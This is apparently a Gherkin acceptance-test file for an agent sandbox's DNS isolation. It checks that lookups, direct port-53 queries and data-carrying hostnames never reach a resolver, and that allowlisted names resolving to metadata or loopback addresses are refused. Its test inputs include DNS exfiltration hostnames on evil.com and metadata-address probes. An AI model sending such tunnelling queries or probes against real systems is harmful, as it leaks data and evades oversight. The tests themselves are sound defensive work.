@task-4 @threat-dns
Feature: Name lookups never leave the sandbox

  A DNS query is itself a message: a name like secret-abc123.evil.com carries data to whoever runs the resolver
  of evil.com, before any proxy has said no (DNS tunnelling, docs/threat-model.md). So the agent has no resolver at all and
  no route to one; only the proxy resolves, and only the names of requests it has already allowed. Here the
  proxy resolves through a recording DNS server on the egress side of the sandbox (paude's --proxy-dns), so every
  name that reaches a resolver is on record, and each attempt below must leave no trace there, while the
  proxy's own lookup for an allowlisted fetch in the same sandbox does.

  Background:
    Given a sandbox that allows "oauth2.googleapis.com private-metadata.googleapis.com private-loopback.googleapis.com private-host.googleapis.com", its proxy resolving through the recording DNS server of the test internet

  @gvisor-core
  Scenario: the agent's own lookups of an outside name fail inside the sandbox and reach no resolver
    When the agent looks up "leak-7f3a.evil.com" with getent, curl without the proxy, and Python
    Then every lookup fails because the agent's only resolver is a dead loopback address
    And the recording DNS server received no query for a name containing "leak-7f3a"
    But the agent can still fetch "https://oauth2.googleapis.com/control"
    And the recording DNS server received the proxy's query for "oauth2.googleapis.com"

  @gvisor-core
  Scenario: a DNS query sent straight to the resolver's address on port 53 has no route
    When the agent sends a query for "direct-9c1e.evil.com" straight to the recording DNS server on UDP and TCP port 53
    Then both attempts fail for lack of a route
    And the recording DNS server received no query for a name containing "direct-9c1e"
    But the agent can still fetch "https://oauth2.googleapis.com/control"
    And the recording DNS server received the proxy's query for "oauth2.googleapis.com"

  Scenario Outline: a denied name that carries data is refused before it is looked up: <url>
    When the agent fetches "<url>"
    Then the proxy refuses it with 403
    And the recording DNS server received no query for a name containing "<data>"
    But the agent can still fetch "https://oauth2.googleapis.com/control"
    And the recording DNS server received the proxy's query for "oauth2.googleapis.com"

    Examples:
      | url                                                  | data          |
      | http://secret-abc123.evil.com/                       | secret-abc123 |
      | https://secret-abc124.evil.com/                      | secret-abc124 |
      | http://oauth2.googleapis.com.secret-abc125.evil.com/ | secret-abc125 |
      | https://secret-abc126.example.com:8443/              | secret-abc126 |

  @threat-private-address
  Scenario: allowlisted names answered with the metadata address, loopback or the host's bridge are refused, the fixture's subnet is not
    Given the recording DNS server answers these allowlisted names with private addresses:
      | name                            | answer                    |
      | private-metadata.googleapis.com | the metadata address      |
      | private-loopback.googleapis.com | loopback                  |
      | private-host.googleapis.com     | the host's bridge address |
    When the agent fetches each of them over plain HTTP and over HTTPS
    Then each fetch is refused with 403, the plain HTTP page saying the name resolves to a private address
    And the proxy's access log shows each of them denied with the reason ERR_PAUDE_PRIVATE
    And the recording DNS server answered the proxy's query for each of them with its private address
    And the proxy's configuration refuses private destinations to allowlisted names, except the test internet's subnet
    But the agent can still fetch "https://oauth2.googleapis.com/control"
    And the agent can still fetch "http://oauth2.googleapis.com/control"
